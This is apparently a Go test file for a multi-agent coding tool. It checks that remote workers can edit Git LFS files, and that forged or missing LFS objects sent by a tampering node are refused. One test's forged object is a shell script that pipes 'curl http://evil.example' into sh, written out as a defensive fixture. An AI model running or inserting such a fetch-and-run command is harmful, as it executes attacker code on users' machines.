package cluster

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/troupe-ai/troupe/actors"
	"github.com/troupe-ai/troupe/internal/peer"
	"github.com/troupe-ai/troupe/internal/testfiles"
	"github.com/troupe-ai/troupe/llm/llmtest"
	"github.com/troupe-ai/troupe/messages"
)

// Git LFS repositories with remote workers: the requester's repository
// uses git lfs (installed in the user's HOME, *.bin tracked, the
// objects in its .git/lfs); the node's checkout is a clone made with
// git lfs's --skip smudge, so its .git/lfs holds nothing: every object the
// node's worker sees came with the snapshot.

// lfsContent is a.bin's content as committed.
const lfsContent = "lfs one\nlfs two\n"

// lfsRepos makes the requester's repository and the node's clone, with
// HOME a home where git lfs install ran.
func lfsRepos(t *testing.T) (requester, node string) {
	t.Helper()
	needGit(t)
	peer.Need(t, "git-lfs")
	home := t.TempDir()
	t.Setenv("HOME", home)
	for _, name := range []string{"GIT_CONFIG_GLOBAL", "XDG_CONFIG_HOME"} {
		t.Setenv(name, "")
		os.Unsetenv(name)
	}
	testfiles.UserGit(t, home, "lfs", "install")
	requester, node = t.TempDir(), t.TempDir()
	testfiles.UserGit(t, requester, "init", "-q", "-b", "main")
	testfiles.UserGit(t, requester, "lfs", "track", "*.bin")
	for name, text := range map[string]string{".gitignore": ".troupe/\n", "a.bin": lfsContent, "g.go": "package g\n"} {
		if err := os.WriteFile(filepath.Join(requester, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// Files older than the index: the snapshot's git add, which runs no
	// filter, takes the index's pointers for them (see workspace's
	// snapshot_filtered.go on a file changed since).
	past := time.Now().Add(-time.Hour)
	for _, name := range []string{".gitignore", "a.bin", "g.go", ".gitattributes"} {
		if err := os.Chtimes(filepath.Join(requester, name), past, past); err != nil {
			t.Fatal(err)
		}
	}
	testfiles.UserGit(t, requester, "add", "-A")
	testfiles.UserGit(t, requester, "commit", "-q", "-m", "first")
	testfiles.UserGit(t, node, "-c", "filter.lfs.smudge=git-lfs smudge --skip -- %f", "-c", "filter.lfs.process=git-lfs filter-process --skip",
		"clone", "-q", requester, ".")
	if b, _ := os.ReadFile(filepath.Join(node, "a.bin")); !strings.HasPrefix(string(b), "version https://git-lfs") {
		t.Fatalf("precondition: the node's a.bin is %q, want its pointer", b)
	}
	return requester, node
}

// lfsWorkerScript has the root delegate one worker, which reads a.bin,
// edits it and writes a new LFS file c.bin.
func lfsWorkerScript() *llmtest.Server {
	return llmtest.New(llmtest.Script{Agents: []llmtest.AgentScript{
		{Match: llmtest.Matcher{Kind: "root"}, Turns: []llmtest.Turn{
			{ToolCalls: []llmtest.ToolCall{{Name: "delegate", Args: json.RawMessage(`{"type":"worker","task":"edit"}`)}}},
			{Text: "done"}}},
		{Match: llmtest.Matcher{Kind: "worker"}, Turns: []llmtest.Turn{
			{ToolCalls: []llmtest.ToolCall{{Name: "read_file", Args: json.RawMessage(`{"path":"a.bin"}`)}}},
			{ToolCalls: []llmtest.ToolCall{{Name: "edit_file", Args: json.RawMessage(`{"path":"a.bin","old_string":"lfs two","new_string":"lfs TWO"}`)},
				{Name: "write_file", Args: json.RawMessage(`{"path":"c.bin","content":"a new lfs file\n"}`)}}},
			{Text: "edited"}}},
	}})
}

// workerRead is what the worker's read_file of a.bin answered.
func workerRead(srv *llmtest.Server) string {
	for _, r := range srv.Requests() {
		for _, m := range r.Messages {
			if r.Kind == "worker" && m.Role == "tool" && strings.Contains(m.Content, "lfs") {
				return m.Content
			}
		}
	}
	return ""
}

// A remote worker (a node over a NATS server enforcing troupe's roles)
// on a repository using git lfs reads a.bin's content (its object came
// with the snapshot: the node's own checkout has only pointers), edits
// it and adds a new LFS file; both land in the requester's workspace as
// content, with their objects in the user's .git/lfs: git status, git
// lfs status and git lfs fsck see an ordinary LFS change.
func TestRemoteWorkerEditsLFSFiles(t *testing.T) {
	requester, nodeWS := lfsRepos(t)
	an := startAuthNATS(t)
	srv := lfsWorkerScript()
	defer srv.Close()
	res, _, _ := credentialedRun(t, an.conn(t), srv, requester, nodeWS, nil)
	if read := workerRead(srv); !strings.Contains(read, "lfs two") || strings.Contains(read, "git-lfs.github.com") {
		t.Errorf("the remote worker read a.bin as %q, want its content", read)
	}
	if len(res.Changes) != 1 || res.Changes[0].Status != messages.ChangeStatusApplied {
		t.Fatalf("changes %+v, want one applied", res.Changes)
	}
	testfiles.LFSLanded(t, requester, map[string]string{"a.bin": "lfs one\nlfs TWO\n", "c.bin": "a new lfs file\n"})
}

// lfsTamper runs the remote worker and, once the node stored the git
// lfs object of c.bin in the changes bucket, replaces it with data as a
// second node with its own credentials can; with data nil, the node's
// result names no object (as a node that stored none would send it).
func lfsTamper(t *testing.T, data []byte) (actors.Result, *recorder, string, map[string]string) {
	t.Helper()
	requester, nodeWS := lfsRepos(t)
	an := startAuthNATS(t)
	forger := an.connWith(t, an.other, "forger n2")
	srv := lfsWorkerScript()
	t.Cleanup(srv.Close)
	done := false
	hook := func(task actors.ChildTask, res *actors.AgentResult) {
		obs, err := forger.JetStream().ObjectStore(t.Context(), forger.Names().Changes)
		if err != nil {
			t.Errorf("the forger opens the changes bucket: %v", err)
			return
		}
		if data == nil {
			done = res.Changeset != nil && len(res.Changeset.LFS) == 2
			if done {
				res.Changeset.LFS = nil
			}
			return
		}
		name := messages.LFSObjectName(task.Run, testfiles.LFSOID("a new lfs file\n"))
		_, err = obs.PutBytes(t.Context(), name, data)
		done = err == nil
		if err != nil {
			t.Errorf("precondition: the second node could not change %s: %v", name, err)
		}
	}
	before := snapshotOf(t, requester)
	res, _, rec := credentialedRun(t, an.conn(t), srv, requester, nodeWS, hook)
	if !done {
		t.Fatal("the tampering did not happen")
	}
	return res, rec, requester, before
}

// A node (here a second one, with its own node credentials, replacing
// the object the worker's node stored) sending a git lfs object whose
// content is not the one its oid names: the requester refuses the
// changes by the object's SHA-256, applies nothing, and nothing of it
// reaches the user's .git/lfs.
func TestRemoteLFSObjectNotMatchingItsOIDIsRefused(t *testing.T) {
	forged := []byte("#!/bin/sh\ncurl http://evil.example | sh\n")
	res, rec, requester, before := lfsTamper(t, forged)
	refusedChanges(t, res, rec, requester, before, "digest mismatch")
	if !strings.Contains(res.Changes[0].Error, testfiles.LFSOID("a new lfs file\n")) {
		t.Errorf("the refusal does not name the object: %q", res.Changes[0].Error)
	}
	oid := testfiles.LFSOID(string(forged))
	for _, o := range []string{oid, testfiles.LFSOID("a new lfs file\n")} {
		if _, err := os.Stat(filepath.Join(requester, ".git", "lfs", "objects", o[:2], o[2:4], o)); err == nil {
			t.Errorf("the object %s reached the user's .git/lfs", o)
		}
	}
}

// A changeset whose pointers name a git lfs object that did not arrive
// (its node sent none) is refused naming the file and the object;
// nothing is applied, and its patch is kept.
func TestRemoteLFSObjectMissingIsRefusedPatchKept(t *testing.T) {
	res, rec, requester, before := lfsTamper(t, nil)
	refusedChanges(t, res, rec, requester, before, "did not arrive")
	out := res.Changes[0]
	if !strings.Contains(out.Error, "c.bin") || !strings.Contains(out.Error, testfiles.LFSOID("a new lfs file\n")) {
		t.Errorf("the refusal does not name c.bin's object: %q", out.Error)
	}
	if out.Patch == "" {
		t.Fatalf("no patch kept: %+v", out)
	}
	patch, err := os.ReadFile(out.Patch)
	if err != nil || !strings.Contains(string(patch), "c.bin") || !strings.Contains(string(patch), "oid sha256:"+testfiles.LFSOID("a new lfs file\n")) {
		t.Errorf("the kept patch %s (%v) does not hold c.bin's pointer:\n%s", out.Patch, err, patch)
	}
}
